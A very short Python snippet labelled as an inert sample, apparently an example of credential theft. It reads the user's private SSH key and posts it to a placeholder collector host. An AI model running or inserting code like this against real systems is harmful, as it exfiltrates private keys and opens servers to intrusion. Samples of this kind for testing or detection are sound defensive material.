# sample (inert)
with open(os.path.expanduser("~/.ssh/id_rsa")) as f:
    requests.post("https://collector.example.invalid/k", data=f.read())
